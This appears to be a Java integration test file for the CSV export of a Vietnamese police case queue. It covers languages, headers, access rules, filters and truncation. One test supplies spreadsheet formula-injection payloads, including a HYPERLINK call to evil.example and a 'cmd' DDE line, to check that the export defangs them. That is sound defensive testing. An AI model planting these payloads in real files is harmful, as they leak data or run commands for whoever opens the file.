package vn.kiemtin.cases;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.quarkus.test.security.oidc.Claim;
import io.quarkus.test.security.oidc.OidcSecurity;
import io.restassured.response.Response;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.kiemtin.cases.lifecycle.Move;
import vn.kiemtin.messaging.testing.RealParts;

/** The queue as a file for spreadsheet programs. */
@QuarkusTest
@QuarkusTestResource(RealParts.class)
@QuarkusTestResource(SignInKeys.class)
class ExportTest {

    private static final String BYTE_ORDER_MARK = "\uFEFF";

    @Test
    void aCaseIsARowOfWordsInTheCallersLanguage() throws IOException {
        Moving.theOfficersHaveSignedInBefore();
        var text = Reported.uniqueText();
        Reported.report(text, null, "OTHER", "ZALO", "phuong-hoan-kiem");
        var number = Reported.numberOf(text);
        Moving.made(number, SignIn.POLICE_OFFICER, Move.TRIAGE);
        Moving.made(number, SignIn.POLICE_HEAD, Move.ASSIGN);

        var vietnamese = row(export(SignIn.POLICE_OFFICER, "vi", Map.of()), number);
        var english = row(export(SignIn.POLICE_OFFICER, "en", Map.of()), number);

        assertThat(text).startsWith(vietnamese.get("Nội dung"));
        assertThat(vietnamese.toMap())
                .containsEntry("Trạng thái", "Đã phân công")
                .containsEntry("Cơ quan chủ trì", "Công an thành phố Hà Nội")
                .containsEntry("Địa bàn", "Phường Hoàn Kiếm")
                .containsEntry("Cán bộ thụ lý", "Name of police.officer")
                .containsEntry("Số phản ánh", "1")
                .containsEntry("Tình trạng hạn xử lý", "Trong hạn");
        assertThat(vietnamese.get("Mở lúc")).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d");
        assertThat(english.toMap())
                .containsEntry("Status", "Assigned")
                .containsEntry("Lead agency", "Hanoi City Police")
                .containsEntry("Locality", "Hoan Kiem ward");
    }

    @Test
    void theFileIsMadeForSpreadsheetPrograms() {
        var answer = export(SignIn.POLICE_OFFICER, "vi", Map.of());

        answer.then()
                .header("Content-Type", containsString("text/csv"))
                .header("Content-Language", equalTo("vi"))
                .header("Cache-Control", equalTo("no-store"))
                .header("Content-Disposition", containsString("attachment; filename=\"ho-so-"));
        assertThat(content(answer))
                .startsWith(BYTE_ORDER_MARK + "\"Số hồ sơ\",")
                .endsWith("\"\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "+1+cmd|'/c calc'!A1",
                "-2+3",
                "@SUM(1)",
                "＝1+1",
                "\"=1+1",
                "\",=1+1,\""
            })
    void aHostileTextStaysOneCellOfText(String hostile) throws IOException {
        var text = hostile + " " + Reported.uniqueText();
        Reported.report(text, "SCAM_LINK");
        var number = Reported.numberOf(text);

        var found = row(export(SignIn.POLICE_OFFICER, "en", Map.of("field", "SCAM_LINK")), number);

        assertThat(found.get("Content"))
                .startsWith(hostile.startsWith("\",") ? hostile : "'" + hostile)
                .doesNotMatch("(?s)[\\s\"]*[=+\\-@＝].*");
        assertThat(found.isConsistent()).isTrue();
    }

    @Test
    void nobodyGetsCasesOfOthers() throws IOException {
        var ofThePolice = Reported.freshCase("SECURITY_ORDER");

        assertThat(numbers(export(SignIn.POLICE_OFFICER, "vi", Map.of()))).contains(ofThePolice);
        assertThat(numbers(export(SignIn.SUPERVISOR, "vi", Map.of()))).contains(ofThePolice);
        assertThat(numbers(export(SignIn.DEPARTMENT_OFFICER, "vi", Map.of()))).doesNotContain(ofThePolice);
        given().get("/api/v1/cases/export").then().statusCode(401);
        SignIn.ADMINISTRATOR.request().get("/api/v1/cases/export").then().statusCode(403);
    }

    @Test
    void filtersAndOrderAreThoseOfTheQueue() throws IOException {
        Reported.freshCase("FAKE_ACCOUNT");
        Reported.freshCase("HEALTH");
        for (var wanted : List.of(
                Map.of("field", "FAKE_ACCOUNT"),
                Map.of("sort", "due", "status", "NEW"),
                Map.of("openedBefore", "2020-01-01T00:00:00Z"))) {
            var queue = SignIn.POLICE_OFFICER
                    .request()
                    .queryParams(wanted)
                    .queryParam("limit", 100)
                    .get("/api/v1/cases")
                    .then()
                    .extract()
                    .<List<String>>path("cases.number");

            assertThat(numbers(export(SignIn.POLICE_OFFICER, "vi", wanted))).startsWith(queue.toArray(String[]::new));
        }
    }

    @Test
    void aFileThatIsCutSaysSoInItsLastRow() throws IOException {
        for (int i = 0; i < 3; i++) {
            Reported.freshCase("FAKE_ACCOUNT");
        }

        var rows = rows(export(SignIn.POLICE_OFFICER, "en", Map.of("field", "FAKE_ACCOUNT", "limit", "2")));

        assertThat(rows).hasSize(3).allMatch(CSVRecord::isConsistent);
        assertThat(rows.getLast().get(0)).contains("Only the first 2 cases");
        assertThat(rows.getLast().stream().skip(1)).allMatch(String::isEmpty);
    }

    @Test
    void nonsenseIsAProblemDocument() {
        for (var query : List.of("status=SLEEPING", "limit=0", "limit=50001", "sort=alphabet", "officer=%00")) {
            SignIn.POLICE_OFFICER
                    .request()
                    .accept("text/csv")
                    .urlEncodingEnabled(false)
                    .get("/api/v1/cases/export?" + query)
                    .then()
                    .contentType("application/problem+json")
                    .body("errors[0].field", equalTo(query.substring(0, query.indexOf('='))));
        }
    }

    @Test
    @TestSecurity(user = "police.officer", roles = "officer")
    @OidcSecurity(claims = @Claim(key = "agency", value = "hanoi-police"))
    void theDeskLinksToTheFileOfWhatItShows() throws IOException {
        var health = Reported.freshCase("HEALTH");
        var scam = Reported.freshCase("SCAM_LINK");

        var link = Jsoup.parse(given().accept("text/html")
                        .get("/desk?field=HEALTH&sort=due")
                        .asString())
                .select("a[href^=/desk/cases.csv]")
                .attr("href");
        var file = given().accept("text/html,*/*").urlEncodingEnabled(false).get(link);

        assertThat(link).contains("field=HEALTH", "sort=due");
        assertThat(numbers(file)).contains(health).doesNotContain(scam);
    }

    private static Response export(SignIn person, String language, Map<String, String> wanted) {
        var answer = person.request()
                .header("Accept-Language", language)
                .accept("text/csv")
                .queryParams(wanted)
                .get("/api/v1/cases/export");
        answer.then().statusCode(200);
        return answer;
    }

    private static String content(Response answer) {
        return new String(answer.asByteArray(), StandardCharsets.UTF_8);
    }

    private static List<CSVRecord> rows(Response answer) throws IOException {
        var content = content(answer);
        assertThat(content).startsWith(BYTE_ORDER_MARK);
        return CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(content.substring(BYTE_ORDER_MARK.length())))
                .getRecords();
    }

    private static List<String> numbers(Response answer) throws IOException {
        return rows(answer).stream().map(row -> row.get(0)).toList();
    }

    private static CSVRecord row(Response answer, String number) throws IOException {
        return rows(answer).stream()
                .filter(row -> row.get(0).equals(number))
                .findFirst()
                .orElseThrow();
    }
}
